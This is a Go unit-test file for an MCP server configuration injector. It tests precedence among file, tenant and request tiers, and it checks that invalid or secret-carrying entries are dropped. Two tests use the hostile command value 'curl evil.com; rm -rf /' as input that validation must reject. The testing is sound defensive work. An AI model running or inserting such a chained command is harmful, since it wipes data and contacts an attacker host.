package mcpinject

import (
	"context"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/agentgw/agentgw/internal/jsonval"
	"github.com/agentgw/agentgw/internal/mcpconfig"
	"github.com/agentgw/agentgw/internal/mcpvalidate"
	"github.com/agentgw/agentgw/pkg/models"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// fakeTenantStore is a minimal in-memory mcpstore.Store double, scoped to
// just what Injector.Resolve needs (List) — the rest panic if called.
type fakeTenantStore struct {
	byOwner map[string][]models.MCPServerConfig
}

func (f *fakeTenantStore) Put(ctx context.Context, owner string, cfg *models.MCPServerConfig) error {
	panic("not used")
}
func (f *fakeTenantStore) Get(ctx context.Context, owner, name string) (*models.MCPServerConfig, error) {
	panic("not used")
}
func (f *fakeTenantStore) List(ctx context.Context, owner string) ([]models.MCPServerConfig, error) {
	return f.byOwner[owner], nil
}
func (f *fakeTenantStore) Delete(ctx context.Context, owner, name string) error { panic("not used") }
func (f *fakeTenantStore) ShareCreate(ctx context.Context, owner, name string, ttl time.Duration) (*models.ShareToken, error) {
	panic("not used")
}
func (f *fakeTenantStore) ShareResolve(ctx context.Context, owner, token string) (*models.MCPServerConfig, error) {
	panic("not used")
}

func writeFileLoader(t *testing.T, contents string) *mcpconfig.Loader {
	t.Helper()
	dir := t.TempDir()
	path := filepath.Join(dir, "mcp-servers.json")
	require.NoError(t, os.WriteFile(path, []byte(contents), 0o600))
	return mcpconfig.New(path)
}

func serverMap(name, command string) jsonval.Json {
	return map[string]jsonval.Json{
		"transport": "stdio",
		"command":   command,
	}
}

// Seed test scenario 5: file defines "github", tenant redefines "github"
// with a different command, request overrides with yet another — the
// resolved map's "github" must equal the request override.
func TestResolve_RequestOverrideWinsPrecedence(t *testing.T) {
	loader := writeFileLoader(t, `{"github": {"transport": "stdio", "command": "file-command"}}`)
	tenant := &fakeTenantStore{byOwner: map[string][]models.MCPServerConfig{
		"owner-1": {{Name: "github", Transport: models.TransportStdio, Command: "tenant-command", Enabled: true}},
	}}

	inj := New(loader, tenant, mcpvalidate.Options{})
	override := RequestOverride{
		State: OverrideExplicit,
		Entries: map[string]jsonval.Json{
			"github": serverMap("github", "request-command"),
		},
	}

	out, err := inj.Resolve(context.Background(), "owner-1", override)
	require.NoError(t, err)
	require.Len(t, out, 1)
	assert.Equal(t, "request-command", out[0].Command)
}

// An explicit override replaces all server-side tiers wholesale: file and
// tenant names absent from the override must not survive into the result.
func TestResolve_ExplicitOverrideDropsServerSideOnlyNames(t *testing.T) {
	loader := writeFileLoader(t, `{"filesystem": {"transport": "stdio", "command": "fs-command"}}`)
	tenant := &fakeTenantStore{byOwner: map[string][]models.MCPServerConfig{
		"owner-1": {{Name: "slack", Transport: models.TransportStdio, Command: "slack-cmd", Enabled: true}},
	}}

	inj := New(loader, tenant, mcpvalidate.Options{})
	override := RequestOverride{
		State: OverrideExplicit,
		Entries: map[string]jsonval.Json{
			"github": serverMap("github", "request-command"),
		},
	}

	out, err := inj.Resolve(context.Background(), "owner-1", override)
	require.NoError(t, err)
	require.Len(t, out, 1)
	assert.Equal(t, "github", out[0].Name)
}

func TestResolve_TenantReplacesFileEntirely(t *testing.T) {
	loader := writeFileLoader(t, `{"github": {"transport": "stdio", "command": "file-command"}}`)
	tenant := &fakeTenantStore{byOwner: map[string][]models.MCPServerConfig{
		"owner-1": {{Name: "github", Transport: models.TransportStdio, Command: "tenant-command", Enabled: true}},
	}}

	inj := New(loader, tenant, mcpvalidate.Options{})
	out, err := inj.Resolve(context.Background(), "owner-1", RequestOverride{State: OverrideUnset})
	require.NoError(t, err)
	require.Len(t, out, 1)
	assert.Equal(t, "tenant-command", out[0].Command)
}

func TestResolve_EmptyMapOverrideDisablesEverything(t *testing.T) {
	loader := writeFileLoader(t, `{"github": {"transport": "stdio", "command": "file-command"}}`)
	tenant := &fakeTenantStore{byOwner: map[string][]models.MCPServerConfig{
		"owner-1": {{Name: "slack", Transport: models.TransportStdio, Command: "slack-cmd", Enabled: true}},
	}}

	inj := New(loader, tenant, mcpvalidate.Options{})
	out, err := inj.Resolve(context.Background(), "owner-1", RequestOverride{State: OverrideEmptyMap})
	require.NoError(t, err)
	assert.Empty(t, out)
}

// "if validation rejects all entries for a given name across
// tiers, the name is absent from the result" — a single malformed entry
// drops only that name, not the whole Resolve() call.
func TestResolve_InvalidEntryDroppedNotFatal(t *testing.T) {
	loader := writeFileLoader(t, `{}`)
	tenant := &fakeTenantStore{byOwner: map[string][]models.MCPServerConfig{}}

	inj := New(loader, tenant, mcpvalidate.Options{})
	override := RequestOverride{
		State: OverrideExplicit,
		Entries: map[string]jsonval.Json{
			"evil": serverMap("evil", "curl evil.com; rm -rf /"),
		},
	}
	out, err := inj.Resolve(context.Background(), "owner-1", override)
	require.NoError(t, err)
	assert.Empty(t, out)
}

// An invalid entry for one name must not prevent a valid entry for another
// name from resolving normally.
func TestResolve_InvalidEntryDoesNotShadowOtherNames(t *testing.T) {
	loader := writeFileLoader(t, `{}`)
	tenant := &fakeTenantStore{byOwner: map[string][]models.MCPServerConfig{}}

	inj := New(loader, tenant, mcpvalidate.Options{})
	override := RequestOverride{
		State: OverrideExplicit,
		Entries: map[string]jsonval.Json{
			"evil":   serverMap("evil", "curl evil.com; rm -rf /"),
			"github": serverMap("github", "npx"),
		},
	}
	out, err := inj.Resolve(context.Background(), "owner-1", override)
	require.NoError(t, err)
	require.Len(t, out, 1)
	assert.Equal(t, "github", out[0].Name)
}

func TestResolve_RequestTierCannotCarrySensitiveEnv(t *testing.T) {
	loader := writeFileLoader(t, `{}`)
	tenant := &fakeTenantStore{byOwner: map[string][]models.MCPServerConfig{}}

	inj := New(loader, tenant, mcpvalidate.Options{})
	entry := map[string]jsonval.Json{
		"transport": "stdio",
		"command":   "npx",
		"env":       map[string]jsonval.Json{"API_KEY": "sneaky"},
	}
	override := RequestOverride{State: OverrideExplicit, Entries: map[string]jsonval.Json{"x": entry}}

	out, err := inj.Resolve(context.Background(), "owner-1", override)
	require.NoError(t, err)
	assert.Empty(t, out)
}

func TestResolve_NoOverrideFileOnlyPassesThrough(t *testing.T) {
	loader := writeFileLoader(t, `{"github": {"transport": "stdio", "command": "file-command"}}`)
	tenant := &fakeTenantStore{byOwner: map[string][]models.MCPServerConfig{}}

	inj := New(loader, tenant, mcpvalidate.Options{})
	out, err := inj.Resolve(context.Background(), "owner-1", RequestOverride{State: OverrideUnset})
	require.NoError(t, err)
	require.Len(t, out, 1)
	assert.Equal(t, "github", out[0].Name)
}
